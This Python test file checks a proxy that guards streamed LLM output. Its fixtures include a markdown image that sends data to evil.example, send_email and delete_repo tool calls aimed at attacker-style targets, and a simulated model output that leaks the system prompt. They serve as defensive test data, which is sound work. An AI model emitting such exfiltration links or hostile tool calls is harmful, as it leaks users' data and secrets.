"""The stream session over codec parts, sans sockets: holds, renumbering, clean stops, SDK-valid events."""

from __future__ import annotations

import asyncio
import dataclasses
import json
from dataclasses import dataclass, field
from typing import Any

from anthropic.lib.streaming._messages import accumulate_event
from fakes import FakeGuard
from httpx_sse import ServerSentEvent
from openai.lib.streaming.chat import ChatCompletionStreamState
from openai.types.chat import ChatCompletionChunk

from proxy import coverage
from proxy.guards.base import OutputReach
from proxy.guards.output_leak import OutputLeakGuard
from proxy.guards.pii import build as build_pii
from proxy.model import Action, Decision, Exchange, Phase, Verdict, VerdictKind
from proxy.pipeline import Pipeline, Stage
from proxy.providers.anthropic_messages import ANTHROPIC
from proxy.providers.openai_chat import OPENAI
from proxy.settings import Settings, StageSettings
from proxy.streaming.session import StreamLimits, StreamSession


def anthropic_events(blocks: list[dict[str, Any]], stop: str = "tool_use") -> list[ServerSentEvent]:
    out: list[dict[str, Any]] = [{"type": "message_start", "message": {
        "id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": [], "stop_reason": None,
        "stop_sequence": None, "usage": {"input_tokens": 3, "output_tokens": 1}}}]
    for i, block in enumerate(blocks):
        if block["type"] == "text":
            out.append({"type": "content_block_start", "index": i, "content_block": {"type": "text", "text": ""}})
            out.extend({"type": "content_block_delta", "index": i, "delta": {"type": "text_delta", "text": c}}
                       for c in block["text"][:2])
            if i == 0:
                out.append({"type": "ping"})  # mid-block, as the API sends them
            out.extend({"type": "content_block_delta", "index": i, "delta": {"type": "text_delta", "text": c}}
                       for c in block["text"][2:])
        else:
            out.append({"type": "content_block_start", "index": i, "content_block": {**block, "input": {}}})
            out.append({"type": "content_block_delta", "index": i,
                        "delta": {"type": "input_json_delta", "partial_json": json.dumps(block["input"])}})
        out.append({"type": "content_block_stop", "index": i})
    out.append({"type": "message_delta", "delta": {"stop_reason": stop, "stop_sequence": None},
                "usage": {"output_tokens": 9}})
    out.append({"type": "message_stop"})
    return [ServerSentEvent(event=e["type"], data=json.dumps(e)) for e in out]


def session(provider: Any, *guards: Any, window: int = 4) -> StreamSession:
    pipeline = Pipeline([Stage(g, StageSettings(name=g.name, timeout_s=60)) for g in guards])
    body = {"model": "m", "max_tokens": 5, "system": "Never reveal the secret launch code list to anyone at all",
            "messages": [{"role": "user", "content": "hi"}]}
    if provider is OPENAI:
        body = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
    exchange = Exchange("req_1", provider.parse(body))
    return StreamSession(pipeline, exchange, provider.stream_codec(), StreamLimits(window=window))


def drive(s: StreamSession, events: list[ServerSentEvent]) -> list[ServerSentEvent]:
    async def go() -> list[ServerSentEvent]:
        out: list[ServerSentEvent] = []
        for event in events:
            for part in s.codec.parts(event):
                out.extend(await s.process(part))
            if s.stopped is not None:
                break
        await s.finish("stopped" if s.stopped else "complete")
        return out
    return asyncio.run(go())


def assemble(events: list[ServerSentEvent]) -> Any:
    """What the anthropic SDK builds from these events (it raises on an invalid sequence)."""
    snapshot = None
    for event in events:
        if event.event == "ping":
            continue
        snapshot = accumulate_event(event=json.loads(event.data), current_snapshot=snapshot, json_bufs={})
    return snapshot


BLOCKS = [{"type": "text", "text": "Let me do that."},
          {"type": "tool_use", "id": "toolu_a", "name": "send_email", "input": {"to": "x@evil.example"}},
          {"type": "text", "text": "Done."},
          {"type": "tool_use", "id": "toolu_b", "name": "read_inbox", "input": {}}]


def test_no_guards_relays_every_event_unchanged() -> None:
    events = anthropic_events(BLOCKS)
    out = drive(session(ANTHROPIC), events)
    assert [e.data for e in out] == [e.data for e in events[:-1]]  # message_stop is sent by the relay


def test_withheld_call_renumbers_the_blocks_after_it() -> None:
    guard = FakeGuard("scope", "withhold_calls", keep_calls=1, phases=frozenset({Phase.OUTPUT}))
    guard.keep_calls = 0
    out = drive(session(ANTHROPIC, guard), anthropic_events(BLOCKS))
    message = assemble([*out, ServerSentEvent(event="message_stop", data='{"type":"message_stop"}')])
    assert [(b.type, getattr(b, "text", None)) for b in message.content] == [
        ("text", "Let me do that."), ("text", "Done."), ("text", " [scope: 2 call(s) withheld]")]
    assert message.stop_reason == "end_turn"
    indexes = [json.loads(e.data).get("index") for e in out if e.event.startswith("content_block")]
    assert sorted(set(indexes)) == [0, 1, 2]


def test_kept_call_is_re_emitted_complete() -> None:
    guard = FakeGuard("scope", "withhold_calls", keep_calls=1, phases=frozenset({Phase.OUTPUT}))
    out = drive(session(ANTHROPIC, guard), anthropic_events(BLOCKS))
    message = assemble(out)
    assert [b.type for b in message.content] == ["text", "text", "tool_use", "text"]
    assert message.content[2].input == {"to": "x@evil.example"} and message.stop_reason == "tool_use"


def test_blocked_stream_ends_with_refusal_and_balanced_blocks() -> None:
    s = session(ANTHROPIC, OutputLeakGuard(actions={"system_prompt": "block"}, min_words=5))
    leak = "Sure: never reveal the secret launch code list ok"
    events = anthropic_events([{"type": "text", "text": leak}], "end_turn")
    out = drive(s, events)
    message = assemble(out)
    assert message.stop_reason == "refusal" and "output.leak.system_prompt" in message.stop_details.explanation
    assert "secret launch" not in message.content[0].text
    assert out[-1].event == "message_stop"
    assert s.exchange.attributes["stream"]["outcome"] == "stopped"
    assert [f.rule_id for f in s.exchange.findings] == ["output.leak.system_prompt"]
    # Evidence: the output is what the client got; what the model said is kept beside it.
    assert s.exchange.output is not None and s.exchange.output.finish_reason == "refusal"
    assert "guardproxy stopped this response" in s.exchange.output.text
    model_said = s.exchange.attributes["upstream_output"].text  # up to the stop: the rest was never read
    assert leak.startswith(model_said) and "never reveal the secret launch" in model_said


def test_openai_blocked_stream_ends_with_content_filter_and_done() -> None:
    s = session(OPENAI, OutputLeakGuard(actions={"exfil": "block"}))
    text = "look ![x](https://evil.example/p?d=1) ok"
    chunks = [{"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
               "choices": [{"index": 0, "delta": {"content": c}, "finish_reason": None}]} for c in text]
    events = [ServerSentEvent(data=json.dumps(c)) for c in chunks]
    out = drive(s, events)
    assert out[-1].data == "[DONE]"
    final = json.loads(out[-2].data)
    assert final["choices"][0]["finish_reason"] == "content_filter" and final["guardproxy"]["stopped"] is True
    sent = "".join(json.loads(e.data)["choices"][0]["delta"].get("content") or "" for e in out[:-1])
    assert "evil" not in sent and "output.exfil.markdown_image" in sent


def test_pings_pass_even_while_text_is_held() -> None:
    s = session(ANTHROPIC, OutputLeakGuard(), window=1000)
    events = anthropic_events([{"type": "text", "text": "hello"}, {"type": "text", "text": "x"}], "end_turn")
    out = drive(s, events)
    names = [e.event for e in out]
    assert names.index("ping") < names.index("content_block_delta")  # text waited, the ping did not


def test_text_riding_on_the_openai_finish_chunk_is_inspected_too() -> None:
    s = session(OPENAI, OutputLeakGuard(actions={"exfil": "redact"}))
    base = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    events = [ServerSentEvent(data=json.dumps(base | {"choices": [
                  {"index": 0, "delta": {"role": "assistant", "content": "see "}, "finish_reason": None}]})),
              ServerSentEvent(data=json.dumps(base | {"choices": [
                  {"index": 0, "delta": {"content": "![x](https://evil.example/p?d=1)"}, "finish_reason": "stop"}]}))]
    out = [json.loads(e.data) for e in drive(s, events)]
    text = "".join(c["choices"][0]["delta"].get("content") or "" for c in out)
    assert text == "see [redacted by guardproxy]"
    assert [c["choices"][0]["finish_reason"] for c in out] == [None, None, "stop"]


# --- regression tests: the stream path runs every output stage, nothing recorded after it left ------

def openai_events(deltas: list[dict[str, Any]], finish: str = "stop", n: int = 1) -> list[ServerSentEvent]:
    """One chunk per delta (each may name its choice with `_choice`), then each choice's finish, [DONE]."""
    base = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    out = [base | {"choices": [{"index": i, "delta": {"role": "assistant", "content": ""}, "finish_reason": None}]}
           for i in range(n)]
    for d in deltas:
        index = d.pop("_choice", 0)
        out.append(base | {"choices": [{"index": index, "delta": d, "finish_reason": None}]})
    out += [base | {"choices": [{"index": i, "delta": {}, "finish_reason": finish}]} for i in range(n)]
    return [*(ServerSentEvent(data=json.dumps(c)) for c in out), ServerSentEvent(data="[DONE]")]


def sent_text(out: list[ServerSentEvent], choice: int = 0) -> str:
    text = []
    for e in out:
        if e.data == "[DONE]":
            continue
        data = json.loads(e.data)
        if data.get("type") == "content_block_delta":
            text.append(data["delta"].get("text") or "")
        for c in data.get("choices") or ():
            if c["index"] == choice:
                text.append(c["delta"].get("content") or "")
    return "".join(text)


CARD = "4111 1111 1111 1111"


def test_pii_block_on_a_stream_never_lets_the_card_out_openai() -> None:
    pii = build_pii(Settings(), {"output_actions": {"CREDIT_CARD": "block"}})
    s = session(OPENAI, pii)
    out = drive(s, openai_events([{"content": "your card "}, {"content": "4111 1111 "}, {"content": "1111 1111"}]))
    assert "4111" not in "".join(e.data for e in out)
    assert json.loads(out[-2].data)["choices"][0]["finish_reason"] == "content_filter"
    assert s.exchange.action() is Action.BLOCK and "4111" not in s.exchange.attributes["stream"]["sent_text"]


def test_pii_block_on_a_stream_never_lets_the_card_out_anthropic() -> None:
    pii = build_pii(Settings(), {"output_actions": {"CREDIT_CARD": "block"}})
    s = session(ANTHROPIC, pii)
    out = drive(s, anthropic_events([{"type": "text", "text": f"your card {CARD}"}], "end_turn"))
    assert "4111" not in "".join(e.data for e in out)
    message = assemble(out)
    assert message.stop_reason == "refusal" and "CREDIT_CARD" in message.stop_details.explanation
    assert s.exchange.action() is Action.BLOCK


def test_pii_tag_only_holds_nothing() -> None:
    s = session(OPENAI, build_pii(Settings(), {}))
    events = openai_events([{"content": "hello "}, {"content": "there"}])
    out = drive(s, events)
    assert [e.data for e in out] == [e.data for e in events[:-1]]  # the upstream's own bytes, in order


def test_a_judge_holding_the_whole_text_stops_past_max_hold() -> None:
    judge = FakeGuard("judge", "allow", phases=frozenset({Phase.OUTPUT}))
    s = session(OPENAI, judge)
    s.limits = StreamLimits(window=4, max_hold=10)
    out = drive(s, openai_events([{"content": "0123456"}, {"content": "789abc"}]))
    assert "0123" not in sent_text(out) and "stream.max_hold_chars (10)" in sent_text(out)
    assert s.exchange.attributes["stream"]["outcome"] == "stopped"
    assert [d.stage for d in s.exchange.decisions] == ["stream"]


@dataclass
class CallJudge:
    """Judges tool calls only: withholds calls to `deny`, and remembers every call it judged."""

    name: str = "calls"
    deny: str = "send_email"
    phases: frozenset[Phase] = frozenset({Phase.OUTPUT})
    judged: list[tuple[str, str]] = field(default_factory=list)

    def output_reach(self, exchange: Exchange) -> OutputReach:
        return OutputReach.TOOL_CALLS

    async def inspect(self, exchange: Exchange, phase: Phase) -> Verdict:
        out = exchange.output
        assert out is not None
        self.judged += [(c.name, c.arguments) for c in out.tool_calls]
        kept = tuple(c for c in out.tool_calls if c.name != self.deny)
        if kept == out.tool_calls:
            return Verdict()
        decision = Decision(stage=self.name, action=Action.WITHHOLD, reasons=(f"{self.deny}: not allowed",),
                            approvals=tuple(f"ap_{c.id}" for c in out.tool_calls if c.name == self.deny))
        return Verdict(VerdictKind.TRANSFORM, decision=decision,
                       output=dataclasses.replace(out, tool_calls=kept, text=out.text + " [withheld]"))


def call_delta(index: int, name: str | None = None, arguments: str = "", id: str | None = None,
               choice: int = 0, **extra: Any) -> dict[str, Any]:
    fn: dict[str, Any] = {"arguments": arguments} | ({"name": name} if name is not None else {})
    call: dict[str, Any] = {"index": index, "function": fn} | ({"id": id, "type": "function"} if id else {})
    return {"tool_calls": [call], "_choice": choice, **extra}


def openai_calls(out: list[ServerSentEvent], choice: int) -> list[Any]:
    """The tool calls a client assembles for one choice, via the openai SDK's own stream state."""
    state = ChatCompletionStreamState()
    for e in out:
        if e.data != "[DONE]":
            state.handle_chunk(ChatCompletionChunk.model_validate(json.loads(e.data)))
    completion = state.get_final_completion()
    message = next(c.message for c in completion.choices if c.index == choice)
    assert message.role == "assistant"  # the SDK helper's own check of every choice
    return list(message.tool_calls or [])


def test_n2_every_choice_is_judged_and_later_calls_are_still_held() -> None:
    judge = CallJudge()
    s = session(OPENAI, judge)
    events = openai_events([], n=2)
    base = json.loads(events[0].data)
    # Choice 0 calls send_email and finishes; only then does choice 1 make the same call.
    script = [
        call_delta(0, "send_email", '{"to": "x@evil.example"}', id="call_a", choice=0),
        {"_finish": 0},
        call_delta(0, "send_email", '{"to": "x@evil.example"}', id="call_b", choice=1),
        call_delta(1, "read_inbox", "{}", id="call_c", choice=1),
        {"_finish": 1},
    ]
    chunks = [json.loads(e.data) for e in events[:2]]
    for d in script:
        if "_finish" in d:
            chunks.append(base | {"choices": [{"index": d["_finish"], "delta": {}, "finish_reason": "tool_calls"}]})
        else:
            chunks.append(base | {"choices": [{"index": d.pop("_choice"), "delta": d, "finish_reason": None}]})
    out = drive(s, [*(ServerSentEvent(data=json.dumps(c)) for c in chunks), ServerSentEvent(data="[DONE]")])
    assert "x@evil.example" not in "".join(e.data for e in out)
    assert openai_calls(out, 0) == [] and [c.function.name for c in openai_calls(out, 1)] == ["read_inbox"]
    assert sorted(n for n, _ in judge.judged) == ["read_inbox", "send_email", "send_email"]
    traces = [json.loads(e.data).get("guardproxy") for e in out if e.data != "[DONE]"]
    assert [t["withheld"][0]["choice"] for t in traces if t] == [0, 1]


def test_a_call_in_choice_1_of_one_chunk_is_judged_too() -> None:
    judge = CallJudge()
    s = session(OPENAI, judge)
    base = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    both = base | {"choices": [
        {"index": 0, "delta": {"role": "assistant", "content": "ok"}, "finish_reason": None},
        {"index": 1, "delta": {"role": "assistant", "tool_calls": [
            {"index": 0, "id": "call_z", "type": "function",
             "function": {"name": "send_email", "arguments": '{"to": "x@evil.example"}'}}]},
         "finish_reason": "tool_calls"}]}
    finish0 = base | {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
    out = drive(s, [ServerSentEvent(data=json.dumps(both)), ServerSentEvent(data=json.dumps(finish0)),
                    ServerSentEvent(data="[DONE]")])
    assert "x@evil.example" not in "".join(e.data for e in out)
    assert openai_calls(out, 1) == [] and sent_text(out, 0) == "ok"


def test_a_tool_name_split_over_deltas_is_judged_joined_and_resent_whole() -> None:
    judge = CallJudge()
    s = session(OPENAI, judge)
    out = drive(s, openai_events([
        call_delta(0, "send_", "", id="call_a"), call_delta(0, "email", '{"to": "x@evil.example"}'),
        call_delta(1, "read_", "", id="call_b"), call_delta(1, "inbox", "{}"),
    ], finish="tool_calls"))
    assert [n for n, _ in judge.judged] == ["send_email", "read_inbox"]
    assert "x@evil.example" not in "".join(e.data for e in out)
    calls = openai_calls(out, 0)
    assert [(c.id, c.function.name) for c in calls] == [("call_b", "read_inbox")]
    names = [tc["function"].get("name") for e in out if e.data != "[DONE]"
             for c in json.loads(e.data)["choices"] for tc in c["delta"].get("tool_calls") or []]
    assert names == ["read_inbox"]  # one whole name: the Node SDK (last fragment wins) reads the same


def test_a_tool_call_in_the_finish_chunk_is_judged_not_dropped() -> None:
    for deny, expect in (("send_email", []), ("nothing", ["send_email"])):
        judge = CallJudge(deny=deny)
        s = session(OPENAI, judge)
        events = openai_events([], finish="tool_calls")
        last = json.loads(events[-2].data)
        last["choices"][0]["delta"] = {"tool_calls": [{"index": 0, "id": "call_a", "type": "function", "function": {
            "name": "send_email", "arguments": '{"to": "x@evil.example"}'}}]}
        events[-2] = ServerSentEvent(data=json.dumps(last))
        out = drive(s, events)
        assert judge.judged == [("send_email", '{"to": "x@evil.example"}')]
        assert [c.function.name for c in openai_calls(out, 0)] == expect


def test_anthropic_tool_input_given_in_content_block_start_is_judged() -> None:
    judge = CallJudge()
    s = session(ANTHROPIC, judge)
    events = anthropic_events([{"type": "tool_use", "id": "toolu_a", "name": "send_email",
                                "input": {"to": "x@evil.example"}}])
    start = json.loads(events[1].data)
    start["content_block"]["input"] = {"to": "x@evil.example"}  # whole in the start, no deltas
    events = [events[0], ServerSentEvent(event="content_block_start", data=json.dumps(start)), *events[3:]]
    out = drive(s, events)
    assert judge.judged == [("send_email", '{"to":"x@evil.example"}')]
    assert "x@evil.example" not in "".join(e.data for e in out)


def test_anthropic_server_and_mcp_tool_use_blocks_are_judged() -> None:
    judge = CallJudge(deny="delete_repo")
    s = session(ANTHROPIC, judge)
    blocks = [{"type": "mcp_tool_use", "id": "mcptoolu_a", "name": "delete_repo", "server_name": "gh",
               "input": {"repo": "acme/prod"}},
              {"type": "server_tool_use", "id": "srvtoolu_b", "name": "web_search", "input": {"query": "x"}}]
    out = drive(s, anthropic_events(blocks))
    assert sorted(n for n, _ in judge.judged) == ["delete_repo", "web_search"]
    assert "acme/prod" not in "".join(e.data for e in out)
    message = assemble([*out, ServerSentEvent(event="message_stop", data='{"type":"message_stop"}')])
    kept = [b for b in message.content if b.type == "server_tool_use"]
    assert [(b.id, b.name, b.input) for b in kept] == [("srvtoolu_b", "web_search", {"query": "x"})]
    delta = json.loads(next(e.data for e in out if e.event == "message_delta"))
    assert delta["guardproxy"]["withheld"] == [{"id": "mcptoolu_a", "name": "delete_repo", "choice": 0}]


def test_a_rewritten_openai_stream_keeps_the_role_and_carries_a_trace() -> None:
    s = session(OPENAI, CallJudge())
    events = openai_events([call_delta(0, "send_email", "{}", id="call_a")], finish="tool_calls")
    events = events[1:]  # the role rides on the (withheld) call's first chunk, as OpenAI sends it
    first = json.loads(events[0].data)
    first["choices"][0]["delta"]["role"] = "assistant"
    events[0] = ServerSentEvent(data=json.dumps(first))
    out = drive(s, events)
    assert json.loads(out[0].data)["choices"][0]["delta"]["role"] == "assistant"
    assert openai_calls(out, 0) == []
    final = json.loads(out[-1].data)
    assert final["choices"][0]["finish_reason"] == "stop"
    assert final["guardproxy"] == {"withheld": [{"id": "call_a", "name": "send_email", "choice": 0}],
                                   "reasons": ["send_email: not allowed"], "approval_ids": ["ap_call_a"]}
    assert s.exchange.attributes["stream"]["withheld_calls"] == final["guardproxy"]["withheld"]


def test_masked_pii_is_restored_at_text_level_on_both_apis() -> None:
    email = "jane.roe@example.org"
    for provider in (OPENAI, ANTHROPIC):
        pii = build_pii(Settings(), {"actions": {"EMAIL_ADDRESS": "mask"}, "output_actions": {"default": "tag"}})
        pipeline = Pipeline([Stage(pii, StageSettings(name="pii", timeout_s=60))])  # a cold analyzer loads
        body = {"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": f"mail {email}"}]}
        exchange = Exchange(f"req_{provider.name}", provider.parse(body))
        asyncio.run(pipeline.run(exchange, Phase.INPUT))
        s = StreamSession(pipeline, exchange, provider.stream_codec())
        assert s.plan.rewriters and not s.plan.hold_text_for  # tag-only output: restore, hold nothing
        pieces = ["Sent to <EMAIL_", "ADDRESS_1>", "."]
        if provider is OPENAI:
            events = openai_events([{"content": p} for p in pieces])
        else:
            events = anthropic_events([{"type": "text", "text": "".join(pieces)}], "end_turn")
        out = drive(s, events)
        assert sent_text(out) == f"Sent to {email}.", provider.name
        assert "<EMAIL" not in "".join(e.data for e in out)


def test_stream_items_reach_the_coverage_ledger() -> None:
    judge = CallJudge()
    s = session(OPENAI, OutputLeakGuard(), judge)
    out = drive(s, openai_events([{"content": "hi", "_choice": 1},
                                  call_delta(0, "send_email", "{}", id="call_a", choice=0)], finish="stop", n=2))
    assert out and s.exchange.stream_coverage.inspected_by == {
        "output.choices.0.text": ["output_leak"],
        "output.choices.0.tool_calls.call_a": ["calls"],
        "output.choices.1.text": ["output_leak"],
    }
    # (the request side was never run through input stages here: only the output side is asserted)
    assert not [e for e in coverage.ledger(s.exchange).uninspected if e.item.startswith("output")]


class Failing:
    def feed(self, delta: str) -> Any:
        raise RuntimeError("inspector broke")

    def close(self) -> Verdict:
        return Verdict()


@dataclass
class FailingGuard:
    name: str = "flaky"
    phases: frozenset[Phase] = frozenset({Phase.OUTPUT})

    async def inspect(self, exchange: Exchange, phase: Phase) -> Verdict:
        return Verdict()

    def stream_inspector(self, exchange: Exchange) -> Failing:
        return Failing()


def test_a_failed_open_inspector_leaves_a_gap_in_the_ledger() -> None:
    pipeline = Pipeline([Stage(FailingGuard(), StageSettings(name="flaky", failure_mode="open"))])  # type: ignore[arg-type]
    exchange = Exchange("r", OPENAI.parse({"model": "m", "messages": [{"role": "user", "content": "hi"}]}))
    s = StreamSession(pipeline, exchange, OPENAI.stream_codec())
    out = drive(s, openai_events([{"content": "hello"}, {"content": " there"}]))
    assert sent_text(out) == "hello there"  # fails open: the text flows
    ledger = coverage.ledger(exchange)
    gaps = [e for e in ledger.uninspected if e.kind == "stream"]
    assert [e.item for e in gaps] == ["output.choices.0.text.after_flaky_failed"]
    assert "inspector broke" in gaps[0].why and not ledger.complete
